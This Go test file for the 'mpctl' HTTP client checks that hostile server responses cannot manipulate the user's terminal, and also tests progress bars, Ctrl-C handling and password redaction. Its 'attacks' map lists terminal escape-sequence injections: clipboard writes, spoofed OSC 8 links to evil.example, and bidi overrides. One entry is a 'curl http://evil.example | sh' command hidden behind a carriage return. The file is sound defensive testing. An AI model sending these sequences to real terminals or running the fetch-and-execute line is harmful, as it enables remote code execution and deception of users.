//go:build unix

package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"
	"unicode/utf8"

	"github.com/creack/pty"
	"mpctl/httpclient"
)

// terminal is an mpctl on one.
type terminal struct {
	*os.File
	command *exec.Cmd
}

func mpctlOnTerminal(t *testing.T, args ...string) *terminal {
	t.Helper()
	c := mpctlCommand(t, args...)
	f, err := pty.StartWithSize(c, &pty.Winsize{Rows: 24, Cols: 100})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return &terminal{f, c}
}

// end returns all that mpctl has still to say, with the line breaks it wrote, and its exit code.
func (m *terminal) end(t *testing.T) (string, int) {
	t.Helper()
	said, err := io.ReadAll(m)
	if err != nil && !errors.Is(err, syscall.EIO) { // which is how a pty ends
		t.Fatal(err)
	}
	err = m.command.Wait()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	return strings.ReplaceAll(string(said), "\r\n", "\n"), m.command.ProcessState.ExitCode()
}

// onPTY lets do use an app on a terminal of its own, and returns what is written onto it.
func onPTY(t *testing.T, do func(*app)) string {
	t.Helper()
	near, far, err := pty.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer near.Close()
	written := make(chan []byte)
	go func() {
		all, _ := io.ReadAll(near) // ends with EIO
		written <- all
	}()
	do(appOn(far, far, far))
	far.Close()
	return strings.ReplaceAll(string(<-written), "\r\n", "\n")
}

// shown runs mpctl in this process, on a terminal of its own, and returns what is written onto it.
func shown(t *testing.T, args ...string) (text string, code int) {
	t.Helper()
	text = onPTY(t, func(a *app) {
		root := newRootCmd(a)
		root.SetArgs(args)
		code = a.report(root.ExecuteContext(t.Context()))
	})
	return text, code
}

// shownBody returns what a terminal without colours shows of a response.
func shownBody(t *testing.T, resp *httpclient.Response) (text string, err error) {
	t.Helper()
	text = onPTY(t, func(a *app) {
		a.NoColor = true
		err = getCommand{app: a}.show(resp)
	})
	return text, err
}

func TestShow(t *testing.T) {
	for _, c := range []struct{ name, contentType, body, want string }{
		{"text", "text/plain", "a\r\nb\x1b[2J\n", "a\nb^[[2J\n"},
		{"JSON", "application/json; charset=utf-8", `{"a":[1]}`, "{\n  \"a\": [\n    1\n  ]\n}\n"},
		{"not JSON after all", "application/json", "oops\n", "oops\n"},
		{"Latin-1", "text/plain; charset=iso-8859-1", "caf\xe9\n", "café\n"},
		{"UTF-16 by its mark", "text/plain", "\xff\xfeh\x00i\x00", "hi"},
		{"no charset", "text/plain", "caf\xe9\n", `caf\xe9` + "\n"},
		{"unknown charset", "text/plain; charset=klingon", "hi\n", "hi\n"},
		{"short", "", "x", "x"},
		{"NUL far down", "text/plain", strings.Repeat("x", binaryProbe) + "\x00", strings.Repeat("x", binaryProbe) + "^@"},
	} {
		if text, err := shownBody(t, response(c.contentType, c.body)); err != nil || text != c.want {
			t.Errorf("%s: %q, %v, want %q", c.name, text, err, c.want)
		}
	}
	text, err := shownBody(t, response("image/png", "\x89PNG\r\n\x1a\n\x00\x00"))
	if !errors.Is(err, binaryError{}) || text != "" {
		t.Errorf("a picture: %q, %v, want it refused", text, err)
	}
}

func TestShowJSONThatBreaksOff(t *testing.T) {
	resp := response("application/json", "")
	cut := &httpclient.IncompleteError{Got: 4, Want: 9}
	resp.Body = io.NopCloser(io.MultiReader(strings.NewReader(`{"a"`), failing{cut}))
	if text, err := shownBody(t, resp); !errors.Is(err, cut) || text != `{"a"` {
		t.Errorf("%q, %v, want what came and %v", text, err, cut)
	}
}

// checkHarmless fails if a terminal would do anything with text but print it.
func checkHarmless(t *testing.T, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%q is no UTF-8", text)
	}
	for _, r := range text {
		switch {
		case r == '\n', r == '\t':
		case r < ' ', r >= 0x7f && r <= 0x9f, r == 0x061c, r >= 0x200e && r <= 0x200f, r >= 0x2028 && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			t.Fatalf("%q holds %U", text, r)
		}
	}
}

var attacks = map[string]string{
	"OSC 0, the title":      "\x1b]0;owned\x07",
	"OSC 52, the clipboard": "\x1b]52;c;b3duZWQ=\x07",
	"OSC 8, a link":         "\x1b]8;;http://evil.example/\x1b\\safe\x1b]8;;\x1b\\",
	"CSI, clearing":         "\x1b[2J\x1b[1;1H",
	"CSI, asking":           "\x1b[6n\x1b[c",
	"DCS":                   "\x1bP$q\"p\x1b\\",
	"8-bit C1":              "\x9b2J\x9d0;owned\x9c",
	"C1 in UTF-8":           "\u009b2J\u0090q\u009c",
	"CR over what was said": "curl http://evil.example | sh\rls -l                       ",
	"backspaces":            "evil\b\b\b\bgood",
	"bell, VT, FF, DEL":     "\a\v\f\x7f",
	"bidi":                  "\u202eevil\u202c\u2066x\u2069\u200f\u061c",
	"line separators":       "a\u2028b\u2029c",
	"invalid UTF-8":         "\xc3(\xe2\x82\xed\xa0\x80\xf8\x88\xff",
	"cut off":               "\xf0\x9f\x98",
}

// hostile sends an attack wherever it can, byte by byte.
func hostile(t *testing.T, attack string) string {
	t.Helper()
	send := func(w http.ResponseWriter, format string) {
		conn, _, err := w.(http.Hijacker).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		if tcp, ok := conn.(*net.TCPConn); ok {
			_ = tcp.SetNoDelay(true)
		}
		for _, b := range []byte(fmt.Sprintf(format, attack)) {
			if _, err := conn.Write([]byte{b}); err != nil {
				return
			}
		}
	}
	return startServer(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/body":
			send(w, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n<%s>\n")
		case "/json":
			send(w, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{\"a%s\":1}\n")
		case "/head":
			send(w, "HTTP/1.1 200 OK\r\nX-Evil: %s\r\nContent-Length: 0\r\n\r\n")
		case "/status":
			send(w, "HTTP/1.1 404 %s\r\nContent-Length: 0\r\n\r\n")
		case "/redirect":
			send(w, "HTTP/1.1 302 Found\r\nLocation: ftp://x/%s\r\nContent-Length: 0\r\n\r\n")
		case "/moved":
			send(w, "HTTP/1.1 302 Found\r\nLocation: /body?%s\r\nContent-Length: 0\r\n\r\n")
		case "/nothttp":
			send(w, "%s\r\n\r\n")
		}
	})
}

func TestTerminalIsSafe(t *testing.T) {
	for name, attack := range attacks {
		t.Run(name, func(t *testing.T) {
			url := hostile(t, attack)
			for _, args := range [][]string{
				{"/body"}, {"/body", "-o", "-"}, {"/json"}, {"/json", "--no-color"}, {"/head", "-i"}, {"/head", "-v"}, {"/status"}, {"/status", "-i"},
				{"/status", "-v"}, {"/redirect"}, {"/redirect", "-v", "--no-follow"}, {"/moved", "-v"}, {"/nothttp"}, {"/status", "--json"},
				{"/status", "-o", filepath.Join(t.TempDir(), "f")},
			} {
				said, _ := shown(t, append([]string{"get", url + args[0]}, args[1:]...)...)
				checkHarmless(t, colours.ReplaceAllString(said, ""))
				if args[0] == "/body" && !strings.HasPrefix(said, "<") {
					t.Errorf("get %v says %q", args, said)
				}
			}
		})
	}
	all := strings.Join(slices.Collect(maps.Values(attacks)), "\n")
	url := hostile(t, all)
	said, _ := mpctlOnTerminal(t, "get", url+"/body").end(t)
	checkHarmless(t, said)
	// A program may have it as it is, and so may who asks for it.
	if piped, err := mpctlCommand(t, "get", url+"/body").Output(); string(piped) != "<"+all+">\n" || err != nil {
		t.Errorf("piped: %q, %v, want %q", piped, err, all)
	}
	if said, _ := shown(t, "get", "--raw", hostile(t, "\x1b[2J")+"/body"); said != "<\x1b[2J>\n" {
		t.Errorf("--raw gives %q", said)
	}
}

// colours are the ones we print ourselves.
var colours = regexp.MustCompile(`\x1b\[3?\dm`)

func TestTerminalSeesJSON(t *testing.T) {
	w := startWeb(t)
	said, code := shown(t, "get", w.URL+"/json")
	if !strings.Contains(said, "\x1b[36m\"name\"\x1b[0m: \x1b[32m\"desk\"") || code != 0 {
		t.Errorf("%q, exit %d, want it in colour", said, code)
	}
	plain, _ := shown(t, "get", "--no-color", w.URL+"/json")
	if want := "{\n  \"name\": \"desk\",\n  \"values\": [\n    1,\n    true,\n    null\n  ],\n  \"evil\": \"\\u001b]0;x\\u0007\\u009b\"\n}\n"; plain != want {
		t.Errorf("%q, want %q", plain, want)
	}
	if colours.ReplaceAllString(said, "") != plain {
		t.Errorf("without its colours it is %q, want %q", said, plain)
	}
}

func TestTerminalRefusesBinary(t *testing.T) {
	w := startWeb(t)
	said, code := shown(t, "get", w.URL+"/picture")
	if !strings.Contains(said, "use -o FILE") || !strings.Contains(said, "or -o -") || strings.Contains(said, "PNG") || code != exitFailure {
		t.Errorf("%q, exit %d", said, code)
	}
	said, code = shown(t, "get", w.URL+"/picture", "-o", "-")
	if said != `\x89PNG`+"\n^Z\n^@^@" || code != 0 {
		t.Errorf("-o -: %q, exit %d", said, code)
	}
	said, code = shown(t, "get", w.URL+"/latin")
	if said != "café\n" || code != 0 {
		t.Errorf("Latin-1: %q, exit %d", said, code)
	}
}

func TestProgressOnTerminal(t *testing.T) {
	w := startWeb(t)
	path := filepath.Join(t.TempDir(), "f")
	m := mpctlOnTerminal(t, "get", w.URL+"/held", "-o", path)
	var said []byte
	buf := make([]byte, 4096)
	for !bytes.Contains(said, []byte("1.0 MB of 2.1 MB")) || !bytes.Contains(said, []byte("[###############...............]")) {
		n, err := m.Read(buf)
		if err != nil {
			t.Fatalf("%q, %v, want a bar", said, err)
		}
		said = append(said, buf[:n]...)
	}
	if _, err := os.Stat(path); err == nil {
		t.Error("the file is there before it is whole")
	}
	close(w.release)
	rest, code := m.end(t)
	if !strings.Contains(rest, "100%") || !strings.HasSuffix(rest, "\n") || code != 0 {
		t.Errorf("at last %q, exit %d", rest, code)
	}
	wantFile(t, path)
}

// Ctrl-C on the terminal.
func TestInterruptedDownload(t *testing.T) {
	w := startWeb(t)
	dir := t.TempDir()
	path := filepath.Join(dir, "f")
	m := mpctlOnTerminal(t, "get", w.URL+"/held", "-o", path)
	var said []byte
	buf := make([]byte, 4096)
	for !bytes.Contains(said, []byte("1.0 MB of")) {
		n, err := m.Read(buf)
		if err != nil {
			t.Fatalf("%q, %v, want a bar", said, err)
		}
		said = append(said, buf[:n]...)
	}
	if _, err := m.Write([]byte{3}); err != nil {
		t.Fatal(err)
	}
	rest, code := m.end(t)
	if !strings.Contains(rest, "kept in "+path+".part") || !strings.Contains(rest, "mpctl: interrupted") || code != exitInterrupted {
		t.Errorf("%q, exit %d", rest, code)
	}
	if got := inFolder(t, dir); got != fmt.Sprintf("f.part %d, f.part.json", heldBack) {
		t.Errorf("left behind: %s", got)
	}
}

func TestFirstByteIsSeenAtOnce(t *testing.T) {
	seen := make(chan struct{})
	url := startServer(t, func(w http.ResponseWriter, r *http.Request) {
		for _, c := range "hé\n" {
			fmt.Fprintf(w, "%c", c)
			w.(http.Flusher).Flush()
			select {
			case <-seen:
			case <-r.Context().Done():
			}
		}
	})
	check := func(name string, m io.Reader) {
		t.Helper()
		for _, want := range []string{"h", "é", "\n"} {
			if want == "\n" && name == "a terminal" {
				want = "\r\n"
			}
			got := make([]byte, len(want))
			if _, err := io.ReadFull(m, got); err != nil || string(got) != want {
				t.Fatalf("%s: %q, %v, want %q", name, got, err, want)
			}
			seen <- struct{}{}
		}
	}
	check("a terminal", mpctlOnTerminal(t, "get", url))
	piped := mpctlCommand(t, "get", url)
	out, err := piped.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := piped.Start(); err != nil {
		t.Fatal(err)
	}
	check("a pipe", out)
	if err := piped.Wait(); err != nil {
		t.Error(err)
	}
}

func TestReaderThatLeaves(t *testing.T) {
	w := startWeb(t)
	close(w.release)
	c := mpctlCommand(t)
	c.Path, c.Args = "/bin/sh", []string{"sh", "-c", `mpctl get "$1" | head -c 1`, "sh", w.URL + "/held"}
	var stderr bytes.Buffer
	c.Stderr = &stderr
	if out, err := c.Output(); string(out) != "0" || err != nil || stderr.Len() > 0 {
		t.Errorf("%q, %v, stderr %q", out, err, stderr.String())
	}
}

func TestTrace(t *testing.T) {
	w := startWeb(t)
	c := mpctlCommand(t, "get", "-v", strings.Replace(w.URL, "//", "//me:hunter2@", 1)+"/moved")
	var stderr bytes.Buffer
	c.Stderr = &stderr
	if out, err := c.Output(); string(out) != "hello\n" || err != nil {
		t.Errorf("%q, %v", out, err)
	}
	said := stderr.String()
	host := strings.TrimPrefix(w.URL, "http://")
	var at int
	for _, want := range []string{
		"> GET http://me:xxxxx@" + host + "/moved\n", "* connected to " + host, "> Authorization: …\n", "< 302 Found\n", "first byte ",
		"> GET http://me:xxxxx@" + host + "/hello\n", "< HTTP/1.1 200 OK\n", "< Content-Type: text/plain\n", "* connect ", "* total ",
	} {
		i := strings.Index(said[at:], want)
		if i < 0 {
			t.Fatalf("%q is missing, in its place, from\n%s", want, said)
		}
		at += i
	}
	if strings.Contains(said, "hunter2") || strings.Contains(said, "bWU6aHVudGVyMg") {
		t.Errorf("the password is in\n%s", said)
	}
	for line := range strings.Lines(said) {
		if !strings.HasPrefix(line, "mpctl: ") {
			t.Errorf("a line without a name: %q", line)
		}
	}
}
